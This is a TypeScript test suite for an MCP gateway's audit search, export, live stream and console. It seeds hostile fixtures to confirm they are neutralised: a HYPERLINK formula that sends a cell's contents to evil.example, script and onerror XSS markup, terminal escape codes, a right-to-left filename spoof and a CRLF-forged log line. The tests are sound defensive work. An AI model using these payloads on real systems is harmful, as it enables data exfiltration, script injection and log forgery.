/** Looking through the record: a real gateway, a real client, the API as its callers see it, the console in a real Chromium. */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { readEventStream, type StreamedEvent } from '../../src/cli/event-stream.ts';
import { signIn, type Api } from '../support/api.ts';
import { buildConsole, enter, launchBrowser, openPerson, type Person } from '../support/browser.ts';
import { CLIENT_KINDS, type TestClient } from '../support/clients.ts';
import { startGatewayProcess, type GatewayProcess } from '../support/gateway.ts';
import { until } from '../support/until.ts';
import { startWorkbench, type Workbench } from '../support/workbench.ts';

const LEAD = { name: 'lead', kind: 'person', groups: ['leads'], password: 'a-lead-of-this-test-only' } as const;
const SCIENTIST = { name: 'scientist', kind: 'person', groups: ['data-science'], password: 'a-scientist-of-this-test-only' } as const;
const STRANGER = { name: 'stranger', kind: 'person', groups: ['data-science'], password: 'a-stranger-of-this-test-only' } as const;
const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"x")';
const MARKUP = '<script>window.owned = 1</script><img src="x" onerror="window.owned = 1">';
const HOSTILE = `tasmania \u001b[2K\u001b]8;;https://evil.example\u0007 ${MARKUP} \u202Egnp.exe`;
const FORGED = 'first line\r\n{"kind":"command.forwarded","note":"forged"}';
const SECRET = '536-22-7741';
/** What no reader sees, or a terminal obeys. */
const ACTING = /\p{Cf}|\p{Zl}|\p{Zp}|[^\P{Cc}\n\t]/u;

const POLICY = {
  kind: 'Policy',
  name: 'workbench',
  targets: ['workbench'],
  rules: [
    { name: 'echo', subjects: ['group:data-science'], allow: ['tools/list', 'tools/call echo', 'tools/call big'] },
    {
      name: 'writes-need-a-lead',
      subjects: ['group:data-science'],
      review: ['tools/call held_write'],
      approval: { from: ['group:leads'], quorum: 1, reason: 'optional' },
    },
  ],
  masks: [{ detect: ['email', 'us-ssn'] }],
};

let workbench: Workbench;
let gateway: GatewayProcess;
let browser: Browser;
let client: TestClient;
let lead: Api;
let scientist: Api;
let stranger: Api;

before(async () => {
  await buildConsole();
  workbench = await startWorkbench();
  const target = { kind: 'Target', name: 'workbench', protocol: 'mcp', address: workbench.url, owners: ['group:leads'] };
  gateway = await startGatewayProcess({ resources: [target, POLICY], accounts: [LEAD, SCIENTIST, STRANGER] });
  browser = await launchBrowser();
  [lead, scientist, stranger] = [await apiOf(LEAD), await apiOf(SCIENTIST), await apiOf(STRANGER)];
  const [kind] = CLIENT_KINDS;
  assert.ok(kind);
  client = await kind.connect(gateway.endpoint('workbench'), await scientist.token('workbench'));
  for (const value of [FORMULA, HOSTILE, FORGED, `ada@example.com and ${SECRET} live in Hobart`]) await client.call('echo', { value });
});

after(async () => {
  await client?.close();
  await browser?.close();
  await gateway?.stop();
  await workbench?.close();
});

const apiOf = ({ name, password }: { readonly name: string; readonly password: string }): Promise<Api> => signIn(gateway.url, name, password);

interface Found {
  readonly events: readonly {
    readonly id: string;
    readonly kind: string;
    readonly time: string;
    readonly note?: string;
    readonly command?: { readonly name: string };
  }[];
  readonly next?: string;
}

async function search(api: Api, query: Readonly<Record<string, string>>): Promise<Found> {
  const reply = await api.raw(`audit/search?${new URLSearchParams(query).toString()}`);
  assert.equal(reply.status, 200);
  return (await reply.json()) as Found;
}

const kinds = ({ events }: Found): readonly string[] => events.map(({ kind }) => kind).toSorted();

test('what was said is found by its words by whoever did it and by the owner of its target, and by nobody else', async () => {
  for (const api of [scientist, lead]) {
    assert.deepEqual(kinds(await search(api, { text: 'tasmania gnp' })), ['command.forwarded', 'reply.received']);
    assert.deepEqual(kinds(await search(api, { text: 'script alert tasmania' })), []);
    assert.equal((await search(api, { text: 'hobart', kind: 'reply', command: 'echo' })).events.length, 1);
  }
  for (const text of ['tasmania', 'hobart', 'workbench']) assert.deepEqual((await search(stranger, { text, kind: 'command' })).events, []);
  assert.deepEqual((await search(stranger, { subject: 'scientist' })).events, []);
});

test('what was masked is in nothing that can be looked through: not found, not exported, not in a file of the gateway', async () => {
  assert.deepEqual((await search(lead, { text: '7741' })).events, []);
  assert.deepEqual((await search(lead, { text: 'ada' })).events, []);
  assert.equal((await search(lead, { text: 'hobart redacted' })).events.length, 2);
  const files = await Promise.all(['sallyport.db', 'sallyport.db-wal'].map((name) => readFile(`${gateway.folder}/data/${name}`, 'latin1').catch(() => '')));
  // The index of words shares beginnings between them, so only a column shows that this is the database in use.
  assert.ok(files.join('').includes('tools/call echo'), 'the events are in the database');
  for (const text of [...files, await exported(lead, { format: 'jsonl', content: 'yes' })]) assert.ok(!text.includes(SECRET));
});

test('each look is recorded before it is answered, and says what was looked for but not the words', async () => {
  await search(lead, { text: 'confidential words', target: 'workbench' });
  const looked = (await search(lead, { kind: 'recording.viewed' })).events.map(({ note }) => note);
  assert.ok(looked.includes('search: target workbench, a text by 2 words'), JSON.stringify(looked));
  assert.doesNotMatch(JSON.stringify(looked), /confidential/);
});

test('a query that is not understood is refused, and a cursor shows nothing that a search without it would not', async () => {
  const status = async (query: string): Promise<number> => (await lead.raw(`audit/search?${query}`)).status;
  for (const query of [
    'text=***',
    'cursor=x',
    'limit=0',
    'limit=1000',
    'effect=maybe',
    'since=yesterday',
    'since=2026-11-21T10:00:00',
    'viewer=lead',
    'text=',
  ]) {
    assert.equal(await status(query), 400, query);
  }
  const first = await search(lead, { limit: '1', kind: 'command' });
  assert.ok(first.next);
  assert.deepEqual((await search(stranger, { limit: '50', kind: 'command', cursor: first.next })).events, []);
  assert.equal((await fetch(`${gateway.url}/api/audit/search`)).status, 401);
});

async function exported(api: Api, query: Readonly<Record<string, string>>): Promise<string> {
  const reply = await api.raw(`audit/export?${new URLSearchParams(query).toString()}`);
  assert.equal(reply.status, 200);
  assert.match(reply.headers.get('content-disposition') ?? '', /^attachment; filename="sallyport-audit-[\w-]+\.[\w.]+"$/);
  return reply.text();
}

test('a CSV export has no cell that begins like a formula, and one line for each event whatever was said', async () => {
  const csv = await exported(lead, { format: 'csv', content: 'yes', command: 'echo' });
  const lines = csv.split('\r\n');
  const [head = ''] = lines;
  assert.match(head, /^"time","kind",/);
  assert.equal(lines.length - 2, (await search(lead, { command: 'echo', limit: '200' })).events.length);
  assert.ok(csv.includes('HYPERLINK'));
  for (const line of lines) {
    assert.doesNotMatch(line, ACTING);
    for (const [cell] of line.matchAll(/(?<=^|,)(?:"(?:[^"]|"")*"|[^",]*)/g)) assert.doesNotMatch(cell, /^"?[=+\-@\t]/);
  }
});

test('JSON lines and OCSF are one line an event, the oldest first, and nothing in them acts; an export is recorded, refused across sites', async () => {
  for (const format of ['jsonl', 'ocsf']) {
    const text = await exported(lead, { format, content: 'yes', command: 'echo' });
    const rows = text.trimEnd().split('\n');
    for (const row of rows) {
      assert.doesNotMatch(row, ACTING);
      assert.ok(JSON.parse(row));
    }
    const times = rows.map((row) => JSON.parse(row) as { time: string | number }).map(({ time }) => new Date(time).getTime());
    assert.deepEqual(
      times,
      times.toSorted((a, b) => a - b),
    );
    assert.ok(!rows.some((row) => (JSON.parse(row) as { note?: string }).note === 'forged'));
  }
  assert.equal((await search(lead, { kind: 'recording.exported', subject: 'lead' })).events.length >= 2, true);
  assert.equal(await exported(stranger, { format: 'jsonl', command: 'echo' }), '');
  const signedIn = await fetch(`${gateway.url}/api/sign-in`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: LEAD.name, password: LEAD.password, client: 'cli' }),
  });
  const { token } = (await signedIn.json()) as { token: string };
  const from = async (site: string): Promise<number> =>
    (await fetch(`${gateway.url}/api/audit/export?command=echo`, { headers: { authorization: `Bearer ${token}`, 'sec-fetch-site': site } })).status;
  assert.deepEqual([await from('cross-site'), await from('same-origin')], [403, 200]);
});

async function* tail(api: Api, query: Readonly<Record<string, string>> = {}): AsyncGenerator<StreamedEvent> {
  const reply = await api.raw(`audit/tail?${new URLSearchParams(query).toString()}`);
  assert.equal(reply.status, 200);
  // The type of a chunk is not declared.
  yield* readEventStream(reply.body as unknown as AsyncIterable<Uint8Array>);
}

test('the stream shows what comes to whoever may see it, and goes on where it broke off', async () => {
  const stream = tail(lead, { kind: 'reply', command: 'echo' });
  const other = tail(stranger);
  const next = async (from: AsyncGenerator<StreamedEvent>): Promise<StreamedEvent> => (await from.next()).value as StreamedEvent;
  assert.equal((await next(stream)).event, 'open');
  assert.equal((await next(other)).event, 'open');
  await client.call('echo', { value: 'one' });
  const first = await next(stream);
  assert.equal((JSON.parse(first.data) as { kind: string }).kind, 'reply.received');
  assert.ok(first.id);
  await stream.return(undefined);
  await client.call('echo', { value: 'two' });
  await client.call('echo', { value: 'three' });
  const again = tail(lead, { kind: 'reply', command: 'echo', after: first.id });
  await next(again);
  const [second, third] = [await next(again), await next(again)];
  assert.equal(new Set([first, second, third].map(({ data }) => data)).size, 3);
  await again.return(undefined);
  assert.equal((await lead.raw('audit/tail?after=nonsense')).status, 400);
  assert.equal((await lead.raw('audit/tail?text=x')).status, 400);
  await stranger.raw('sign-out', { method: 'POST', body: '{}' });
  // All that the stranger is told is its own signing out; then the stream ends with its sign-in.
  for await (const { data } of other) assert.equal((JSON.parse(data) as { subject?: { name: string } }).subject?.name, 'stranger');
});

test('a replay has its events in the order of their times: the approval is used before the command is forwarded; the client is called by its name', async () => {
  const call = client.call('held_write', { key: 'k' }, { timeout: 60_000 });
  const [held] = await until('the approval', async () => {
    const list = await lead.approvals();
    return list.length > 0 ? list : undefined;
  });
  await lead.answer(held?.id ?? '', 'approve');
  await call;
  const session = (await lead.sessions()).find(({ subject }) => subject === SCIENTIST.name) as { readonly id: string; readonly client?: string } | undefined;
  assert.match(session?.client ?? '', /^sallyport-test 1\.0\.0 from 127\.0\.0\.1$/);
  const { events } = (await (await lead.raw(`sessions/${session?.id}`)).json()) as { events: { event: { kind: string; time: string; approval?: string } }[] };
  const life = events.map(({ event }) => event).filter(({ approval }) => approval === held?.id);
  assert.deepEqual(life.map(({ kind }) => kind).slice(0, 4), ['approval.requested', 'approval.granted', 'approval.executing', 'command.forwarded']);
  const times = events.map(({ event }) => event.time);
  assert.deepEqual(times, times.toSorted());
});

const owned = (page: Page): Promise<unknown> => page.evaluate(() => (globalThis as { owned?: unknown }).owned);
const textOf = async (page: Page): Promise<string> => (await page.locator('main').textContent()) ?? '';

async function person(account: { readonly name: string; readonly password: string }): Promise<Person> {
  const opened = await openPerson(browser);
  await opened.page.goto(`${gateway.url}/audit`);
  await enter(opened.page, account.name, account.password);
  await opened.page.getByRole('heading', { level: 1, name: 'Audit' }).waitFor();
  return opened;
}

test('in the console: looked for with the keyboard, narrowed by a click, with the zone of all times; hostile text does nothing', async () => {
  const { page, complaints } = await person(LEAD);
  await page.getByRole('table', { name: 'Events' }).waitFor();
  await page.keyboard.press('/');
  await page.keyboard.type('tasmania');
  await page.keyboard.press('Enter');
  await page.getByText('2 events: that is all.').waitFor();
  await page.getByRole('columnheader', { name: /^Time \(UTC/ }).waitFor();
  await page.getByRole('button', { name: 'reply' }).click();
  await page.getByText('1 event: that is all.').waitFor();
  assert.match(page.url(), /text=tasmania/);
  assert.match(page.url(), /kind=reply\.received/);
  await page.getByRole('link', { name: /^Replay/ }).click();
  await page.getByRole('region', { name: 'Timeline' }).waitFor();
  assert.match(await textOf(page), /<script>window\.owned = 1<\/script>/);
  assert.doesNotMatch(await textOf(page), ACTING);
  assert.equal(await owned(page), undefined);
  assert.deepEqual(complaints, []);
});

test('in the console: what is recorded appears while one looks, and an export is downloaded', async () => {
  const { page } = await person(LEAD);
  await page.getByRole('button', { name: 'Live' }).click();
  await page.getByText('Following: the newest is on top.').waitFor();
  await client.call('echo', { value: 'live' });
  await page
    .getByRole('cell', { name: /tools\/call echo/ })
    .first()
    .waitFor();
  await page.getByRole('button', { name: 'Export…' }).click();
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('dialog').getByRole('link', { name: 'Export' }).click()]);
  assert.match(download.suggestedFilename(), /\.csv$/);
  assert.match(await readFile((await download.path()) ?? '', 'utf8'), /^"time","kind",/);
});

test('in the console: a replay is played, paused and stepped through with the keyboard', async () => {
  const { page } = await person(LEAD);
  const session = (await lead.sessions()).find(({ subject }) => subject === SCIENTIST.name);
  await page.goto(`${gateway.url}/sessions/${session?.id}`);
  const timeline = page.getByRole('region', { name: 'Timeline' });
  await timeline.waitFor();
  const all = await page.locator('[data-row]').count();
  await page.keyboard.press('.');
  await timeline.getByText(/^.*1 of \d+ events/).waitFor();
  assert.ok((await page.locator('[data-row]').count()) < all);
  await page.keyboard.press('.');
  await timeline.getByText(/2 of \d+ events/).waitFor();
  await page.keyboard.press(',');
  await timeline.getByText(/1 of \d+ events/).waitFor();
  await timeline.getByRole('button', { name: '16×' }).click();
  await page.keyboard.press('p');
  await timeline.getByRole('button', { name: 'Pause' }).waitFor();
  await timeline.getByRole('button', { name: 'Play' }).waitFor();
  await timeline.getByText(/(\d+) of \1 events/).waitFor();
  const slider = page.getByRole('slider', { name: 'Position in the session' });
  await slider.focus();
  await page.keyboard.press('ArrowLeft');
  assert.match((await slider.getAttribute('aria-valuetext')) ?? '', /^\+.* of \d+ events$/);
  await timeline.getByRole('button', { name: 'Show all' }).click();
  assert.equal(await page.locator('[data-row]').count(), all);
});
